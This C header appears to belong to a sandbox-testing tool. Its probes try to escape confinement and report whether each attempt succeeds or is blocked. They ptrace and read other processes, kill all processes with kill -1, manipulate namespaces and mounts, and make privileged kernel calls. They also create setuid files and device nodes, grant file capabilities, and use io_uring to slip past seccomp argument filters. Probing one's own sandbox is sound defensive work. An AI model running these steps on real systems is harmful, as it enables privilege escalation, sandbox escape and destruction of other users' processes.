// SPDX-License-Identifier: MIT
#pragma once

// Processes of others, and what the kernel does for whoever may ask it: namespaces, mounts, rights.

#include "inside.h"

// ---- processes ----------------------------------------------------------------------------------

static void attack_processes(int argc, char **argv)
{
    char path[300], comm[64];
    DIR *dir = opendir("/proc");

    (void)argc;
    (void)argv;
    for (const struct dirent *entry; dir && (entry = readdir(dir));) {
        if (!isdigit((unsigned char)entry->d_name[0]))
            continue;
        snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
        int     fd = open(path, O_RDONLY);
        ssize_t n = fd < 0 ? 0 : read(fd, comm, sizeof comm - 1);
        comm[n > 0 ? n - 1 : 0] = '\0';
        close(fd);
        say(entry->d_name, "note", "%s", comm);
    }
}

// Everything that reaches into another process by its number.
static void attack_process(int argc, char **argv)
{
    char         what[96], path[64], bytes[8];
    struct iovec local = { bytes, sizeof bytes }, remote = { (void *)0x400000, sizeof bytes };

    for (int i = 0; i < argc; i++) {
        pid_t pid = atoi(argv[i]);
#define NAMED(text) (snprintf(what, sizeof what, "%d %s", (int)pid, text), what)
        tell(NAMED("kill"), kill(pid, SIGCONT));
        tell(NAMED("tgkill"), syscall(SYS_tgkill, pid, pid, SIGCONT));
        siginfo_t info = { .si_code = SI_QUEUE };
        tell(NAMED("sigqueue"), syscall(SYS_rt_sigqueueinfo, pid, SIGCONT, &info));
        tell(NAMED("ptrace"), ptrace(PTRACE_ATTACH, pid, NULL, NULL));
        tell(NAMED("seize"), ptrace(PTRACE_SEIZE, pid, NULL, NULL));
        tell(NAMED("vm_readv"), process_vm_readv(pid, &local, 1, &remote, 1, 0));
        tell(NAMED("vm_writev"), process_vm_writev(pid, &local, 1, &remote, 1, 0));
        int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
        tell(NAMED("pidfd"), pidfd);
        tell(NAMED("getfd"), syscall(SYS_pidfd_getfd, pidfd, 0, 0));
        for (const char *const *file =
                 (const char *const[]){ "mem", "environ", "maps", "auxv", NULL };
             *file; file++) {
            snprintf(path, sizeof path, "/proc/%d/%s", (int)pid, *file);
            int fd = open(path, O_RDONLY);
            tell(NAMED(*file), fd);
            close(fd);
        }
        tell(NAMED("setpriority"), setpriority(PRIO_PROCESS, (id_t)pid, 19));
        tell(NAMED("prlimit"), prlimit(pid, RLIMIT_NOFILE, NULL, &(struct rlimit){ 0, 0 }));
        tell(NAMED("affinity"),
             syscall(SYS_sched_setaffinity, pid, sizeof(unsigned long), &(unsigned long){ 1 }));
    }
}

static void attack_killall(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    say("kill -1", "note", "now");
    tell("setpriority of the user", setpriority(PRIO_USER, getuid(), 19));
    kill(-1, SIGKILL);
}

// ---- system calls -------------------------------------------------------------------------------

#ifndef SYS_fchmodat2
#define SYS_fchmodat2 452
#endif

// As a child's exit code, so that a namespace that was entered is left again.
static void tell_unshare(const char *what, int flag)
{
    pid_t pid = fork();
    int   status = 0;

    if (pid == 0)
        _exit(unshare(flag) == 0 ? 0 : errno);
    waitpid(pid, &status, 0);
    errno = WIFEXITED(status) ? WEXITSTATUS(status) : EINTR;
    tell(what, errno ? -1 : 0);
}

static void tell_clone(const char *what, unsigned long flags)
{
    long pid = syscall(SYS_clone, flags | SIGCHLD, NULL, NULL, NULL, NULL);

    if (pid == 0)
        _exit(0);
    int saved = errno;
    if (pid > 0)
        waitpid((pid_t)pid, NULL, 0);
    errno = saved;
    tell(what, pid);
}

static void attack_namespaces(int argc, char **argv)
{
    static const struct {
        const char *name;
        int         flag;
    } kinds[] = {
        { "user", CLONE_NEWUSER },     { "mount", CLONE_NEWNS }, { "pid", CLONE_NEWPID },
        { "net", CLONE_NEWNET },       { "ipc", CLONE_NEWIPC },  { "uts", CLONE_NEWUTS },
        { "cgroup", CLONE_NEWCGROUP },
    };
    char what[64];

    (void)argc;
    (void)argv;
    for (size_t i = 0; i < ELEMENTS(kinds); i++) {
        snprintf(what, sizeof what, "unshare %s", kinds[i].name);
        tell_unshare(what, kinds[i].flag);
        snprintf(what, sizeof what, "clone %s", kinds[i].name);
        tell_clone(what, (unsigned long)kinds[i].flag);
    }
    struct {
        uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
    } clone3 = { .flags = CLONE_NEWUSER, .exit_signal = SIGCHLD };
    long pid = syscall(SYS_clone3, &clone3, sizeof clone3);
    if (pid == 0)
        _exit(0);
    tell("clone3 user", pid);
    int fd = open("/proc/self/ns/mnt", O_RDONLY);
    tell("setns", setns(fd, 0));
    close(fd);
}

static void attack_mounts(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    tell("mount tmpfs", mount("x", "/tmp", "tmpfs", 0, NULL));
    tell("mount proc", mount("x", "/tmp", "proc", 0, NULL));
    tell("bind", mount("/usr", "/tmp", NULL, MS_BIND, NULL));
    tell("remount", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
    tell("umount", umount2("/srv/game", MNT_DETACH));
    tell("umount proc", umount2("/proc/sys", MNT_DETACH));
    tell("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp"));
    tell("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/usr", 1));
    tell("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    tell("fspick", syscall(SYS_fspick, AT_FDCWD, "/usr", 0));
    tell("move_mount", syscall(SYS_move_mount, AT_FDCWD, "/usr", AT_FDCWD, "/tmp", 0));
    tell("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, (uint64_t[4]){ 0 }, 32));
    tell("swapon", syscall(SYS_swapon, "/srv/game/x", 0));
    tell("quotactl", syscall(SYS_quotactl, 0x800001 << 8, "/dev/null", 0, NULL));
}

static void attack_kernel(int argc, char **argv)
{
    struct {
        uint32_t a[16];
    } attr = { { 1, 4, 4, 1 } };
    uint64_t perf[16] = { (uint64_t)128 << 32 };

    (void)argc;
    (void)argv;
    tell("bpf map", syscall(SYS_bpf, 0, &attr, sizeof attr));
    tell("bpf prog", syscall(SYS_bpf, 5, &attr, sizeof attr));
    tell("perf_event_open", syscall(SYS_perf_event_open, perf, 0, -1, -1, 0));
    tell("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC));
    tell("init_module", syscall(SYS_init_module, "x", 1, ""));
    tell("finit_module", syscall(SYS_finit_module, 0, "", 0));
    tell("delete_module", syscall(SYS_delete_module, "overlay", O_NONBLOCK));
    tell("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
    tell("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0, NULL)); // 0: CAD off
    tell("syslog", syscall(SYS_syslog, 3, (char[64]){ 0 }, 64));
    tell("acct", syscall(SYS_acct, "/tmp/acct"));
    tell("settime", syscall(SYS_clock_settime, 0, (long[4]){ 0 }));
    tell("adjtimex", syscall(SYS_adjtimex, (char[512]){ [0] = 1 }));
    tell("sethostname", syscall(SYS_sethostname, "x", 1));
    tell("iopl", syscall(SYS_iopl, 3));
    tell("ioperm", syscall(SYS_ioperm, 0x80, 1, 1));
    tell("fanotify", syscall(SYS_fanotify_init, 0, 0));
    tell("personality", syscall(SYS_personality, 0x0040000));
    tell("io_uring", syscall(SYS_io_uring_setup, 4, &(struct io_uring_params){ 0 }));
    tell("add_key", syscall(SYS_add_key, "user", "x", "x", 1, -3));
    tell("request_key", syscall(SYS_request_key, "user", "x", NULL, -3));
    tell("keyctl", syscall(SYS_keyctl, 0, -4, 1));
    tell("nice", setpriority(PRIO_PROCESS, 0, -20));
    tell("realtime", sched_setscheduler(0, SCHED_FIFO, &(struct sched_param){ 1 }));
    tell("sysctl", open("/proc/sys/kernel/core_pattern", O_WRONLY));
    tell("sysctl net", open("/proc/sys/net/ipv4/ip_forward", O_WRONLY));
    tell("sysrq", open("/proc/sysrq-trigger", O_WRONLY));
    tell("sysfs", open("/sys/kernel/uevent_helper", O_WRONLY));
    tell("oom adjust", open("/proc/1/oom_score_adj", O_WRONLY) < 0
                           ? -1
                           : write(open("/proc/1/oom_score_adj", O_WRONLY), "-1000", 5));
    tell("kmsg", open("/dev/kmsg", O_WRONLY));
    tell("mem", open("/dev/mem", O_RDONLY));
}

// A setuid file by the one door that no filter of arguments sees: the ring opens the file itself.
static long uring_open(const char *path, mode_t mode)
{
    struct io_uring_params params = { 0 };
    int                    fd = (int)syscall(SYS_io_uring_setup, 1, &params);

    if (fd < 0)
        return -1;
    size_t n = params.sq_off.array + params.sq_entries * sizeof(uint32_t);
    char  *ring =
        mmap(NULL, n, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQ_RING);
    struct io_uring_sqe *sqe = mmap(NULL, sizeof *sqe, PROT_READ | PROT_WRITE,
                                    MAP_SHARED | MAP_POPULATE, fd, (off_t)IORING_OFF_SQES);
    if (ring == MAP_FAILED || (void *)sqe == MAP_FAILED)
        return -1;
    *sqe = (struct io_uring_sqe){ .opcode = IORING_OP_OPENAT,
                                  .fd = AT_FDCWD,
                                  .addr = (uint64_t)(uintptr_t)path,
                                  .len = mode,
                                  .open_flags = O_WRONLY | O_CREAT };
    ((uint32_t *)(void *)(ring + params.sq_off.array))[0] = 0;
    __atomic_store_n((uint32_t *)(void *)(ring + params.sq_off.tail), 1, __ATOMIC_RELEASE);
    return syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
}

static void tell_mode(const char *what, const char *path, long result)
{
    struct stat st;
    int         saved = errno;

    if (stat(path, &st) == 0 && st.st_mode & (S_ISUID | S_ISGID) && !S_ISDIR(st.st_mode))
        say(what, "done", "mode %o", (unsigned)st.st_mode);
    else
        say(what, "blocked", "%s", result < 0 ? strerrorname_np(saved) : "the bits are not set");
    unlink(path);
}

// In the directory given: files that would run as somebody else, or be a way to a device.
static void attack_setid(int argc, char **argv)
{
    char path[256];

    snprintf(path, sizeof path, "%s/setid-%d", argc > 0 ? argv[0] : ".", (int)sizeof(long) * 8);
#define FRESH() close(open(path, O_WRONLY | O_CREAT, 0755))
    FRESH();
    tell_mode("chmod", path, chmod(path, 04755));
    FRESH();
    tell_mode("chmod group", path, chmod(path, 02755));
    FRESH();
    tell_mode("fchmodat2", path, syscall(SYS_fchmodat2, AT_FDCWD, path, 06755, 0));
    tell_mode("open", path, open(path, O_WRONLY | O_CREAT, 06755));
    tell_mode("creat", path, syscall(SYS_creat, path, 06755));
    struct {
        uint64_t flags, mode, resolve;
    } how = { O_WRONLY | O_CREAT, 06755, 0 };
    tell_mode("openat2", path, syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof how));
    tell_mode("mknod file", path, mknod(path, S_IFREG | 06755, 0));
    tell_mode("io_uring", path, uring_open(path, 06755));
    tell("character device", mknod(path, S_IFCHR | 0666, makedev(1, 1)));
    unlink(path);
    tell("block device", mknod(path, S_IFBLK | 0666, makedev(8, 0)));
    unlink(path);
    FRESH();
    // Version 2 of a file capability: everything, effective.
    static const uint8_t capability[20] = { 1, 0, 0, 2, 0xff, 0xff, 0xff, 0xff };
    tell("file capability", syscall(SYS_setxattr, path, "security.capability", capability, 20, 0));
    tell("chown", chown(path, 0, 0));
    unlink(path);
}

static void attack_rights(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    tell("setuid", setuid(0));
    tell("setresuid", syscall(SYS_setresuid, 0, 0, 0));
    tell("setgid", setgid(0));
    tell("setgroups", setgroups(1, &(gid_t){ 0 }));
    struct {
        uint32_t version;
        int      pid;
    } head = { 0x20080522, 0 };
    uint32_t all[6] = { ~0u, ~0u, ~0u, ~0u, ~0u, ~0u };
    tell("capset", syscall(SYS_capset, &head, all));
    FILE *status = fopen("/proc/self/status", "r");
    char  line[256];
    while (status && fgets(line, sizeof line, status))
        if (strncmp(line, "Cap", 3) == 0 || strncmp(line, "NoNewPrivs", 10) == 0 ||
            strncmp(line, "Seccomp:", 8) == 0) {
            line[strcspn(line, "\n")] = '\0';
            say("status", "note", "%s", line);
        }
}

static void attack_cgroup(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    tell("mkdir", mkdir("/sys/fs/cgroup/attack", 0755));
    int fd = open("/sys/fs/cgroup/cgroup.procs", O_WRONLY);
    tell("procs", fd < 0 ? -1 : write(fd, "0", 1));
    fd = open("/sys/fs/cgroup/../cgroup.procs", O_WRONLY);
    tell("parent", fd < 0 ? -1 : write(fd, "0", 1));
    fd = open("/sys/fs/cgroup/memory.max", O_WRONLY);
    tell("limit", fd < 0 ? -1 : write(fd, "max", 3));
    FILE *self = fopen("/proc/self/cgroup", "r");
    char  line[256] = "";
    if (self && fgets(line, sizeof line, self))
        line[strcspn(line, "\n")] = '\0';
    say("own", "note", "%s", line);
}
